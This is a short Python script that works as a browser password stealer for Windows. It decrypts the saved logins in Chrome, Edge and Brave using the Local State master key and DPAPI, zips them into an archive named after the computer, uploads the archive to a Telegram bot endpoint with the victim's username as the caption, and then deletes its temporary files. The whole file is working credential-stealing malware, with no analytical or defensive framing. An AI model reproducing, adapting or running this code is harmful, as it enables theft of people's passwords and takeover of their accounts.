import base64
import json
import os
import shutil
import sqlite3
import tempfile
import zipfile

import requests
import win32crypt
from Crypto.Cipher import AES

BOT = "https://api.telegram.invalid/bot000000000:AAFAKEFAKEFAKEFAKEFAKE/sendDocument"
CHAT = "-1000000000000"
BROWSERS = {
    "chrome": r"Google\Chrome\User Data",
    "edge": r"Microsoft\Edge\User Data",
    "brave": r"BraveSoftware\Brave-Browser\User Data",
}


def master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as f:
        enc = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(enc, None, None, None, 0)[1]


def decrypt(blob, key):
    try:
        iv, payload = blob[3:15], blob[15:]
        return AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode()
    except Exception:
        return ""


def dump(name, rel):
    root = os.path.join(os.environ["LOCALAPPDATA"], rel)
    if not os.path.exists(root):
        return []
    key = master_key(root)
    tmp = os.path.join(tempfile.gettempdir(), f"{name}.db")
    shutil.copy2(os.path.join(root, "Default", "Login Data"), tmp)
    rows = []
    con = sqlite3.connect(tmp)
    for url, user, pw in con.execute("SELECT origin_url, username_value, password_value FROM logins"):
        rows.append(f"{url}\t{user}\t{decrypt(pw, key)}")
    con.close()
    os.remove(tmp)
    return rows


out = os.path.join(tempfile.gettempdir(), f"{os.getenv('COMPUTERNAME')}.zip")
with zipfile.ZipFile(out, "w") as z:
    for b, r in BROWSERS.items():
        try:
            z.writestr(f"{b}_passwords.txt", "\n".join(dump(b, r)))
        except Exception:
            continue
with open(out, "rb") as f:
    requests.post(BOT, data={"chat_id": CHAT, "caption": os.getenv("USERNAME")}, files={"document": f}, timeout=20)
os.remove(out)
